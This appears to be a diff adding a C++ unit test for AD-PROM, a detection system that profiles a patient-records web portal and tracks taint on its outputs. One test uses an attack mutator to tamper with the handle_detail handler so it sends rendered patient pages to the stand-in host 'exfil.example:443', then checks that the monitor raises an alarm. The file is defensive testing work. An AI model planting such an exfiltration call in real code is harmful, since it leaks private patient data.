@@ -1,0 +1,80 @@
+// The future-work web application (App_w): the unchanged AD-PROM pipeline
+// profiles a request-driven program and catches a handler tampered to
+// exfiltrate rendered patient data.
+
+#include <gtest/gtest.h>
+
+#include "apps/corpus.h"
+#include "attack/mutators.h"
+#include "prog/program.h"
+
+namespace adprom::apps {
+namespace {
+
+TEST(WebPortalTest, ServesRequestsAndLogs) {
+  const CorpusApp app = MakeWebPortalApp();
+  auto program = prog::ParseProgram(app.source);
+  ASSERT_TRUE(program.ok()) << program.status().ToString();
+  auto cfgs = prog::BuildAllCfgs(*program);
+  ASSERT_TRUE(cfgs.ok());
+  runtime::ProgramIo io;
+  auto trace = core::AdProm::CollectTrace(
+      *program, *cfgs, app.db_factory,
+      {{"GET /patients", "GET /patient", "2", "GET /missing"}}, &io);
+  ASSERT_TRUE(trace.ok()) << trace.status().ToString();
+  ASSERT_GE(io.screen.size(), 4u);
+  EXPECT_EQ(io.screen[0], "HTTP/1.1 200");
+  EXPECT_NE(io.screen[1].find("<li>iris</li>"), std::string::npos);
+  EXPECT_NE(io.screen[3].find("<h1>kira</h1>"), std::string::npos);
+  // The rendered pages carry TD labels (patient names/diagnoses).
+  bool labeled_response = false;
+  for (const runtime::CallEvent& event : *trace) {
+    if (event.callee == "print" && event.td_output) labeled_response = true;
+  }
+  EXPECT_TRUE(labeled_response);
+  // The access log of /patients is labeled too? No — it records only the
+  // route string, so it must NOT be tainted.
+  EXPECT_FALSE(io.files.at("access.log").tainted());
+  // The CSV export, in contrast, is a labeled file.
+  auto export_trace = core::AdProm::CollectTrace(
+      *program, *cfgs, app.db_factory, {{"GET /export"}}, &io);
+  ASSERT_TRUE(export_trace.ok());
+  EXPECT_TRUE(io.files.at("export.csv").tainted());
+}
+
+TEST(WebPortalTest, PipelineDetectsTamperedHandler) {
+  const CorpusApp app = MakeWebPortalApp();
+  auto program = prog::ParseProgram(app.source);
+  ASSERT_TRUE(program.ok());
+  auto system = core::AdProm::Train(*program, app.db_factory,
+                                    app.test_cases);
+  ASSERT_TRUE(system.ok()) << system.status().ToString();
+
+  // Benign sessions are quiet.
+  auto benign = system->Monitor(*program, app.db_factory,
+                                {{"GET /patients", "GET /health"}});
+  ASSERT_TRUE(benign.ok());
+  EXPECT_FALSE(benign->HasAlarm());
+
+  // The attacker patches handle_detail to also send each rendered page to
+  // an external host.
+  attack::InsertOutputSpec spec;
+  spec.function = "handle_detail";
+  spec.variable = "page";
+  spec.output_call = "send_net";
+  spec.channel_arg = "exfil.example:443";
+  spec.where = attack::InsertWhere::kEnd;
+  auto tampered = attack::InsertOutputStatement(*program, spec);
+  ASSERT_TRUE(tampered.ok()) << tampered.status().ToString();
+
+  auto attacked = system->Monitor(*tampered, app.db_factory,
+                                  {{"GET /patient", "4"}});
+  ASSERT_TRUE(attacked.ok());
+  EXPECT_TRUE(attacked->HasAlarm());
+  EXPECT_TRUE(attacked->ConnectedToSource());
+  // The exfiltration channel really received the page.
+  EXPECT_FALSE(attacked->io.network.empty());
+}
+
+}  // namespace
+}  // namespace adprom::apps
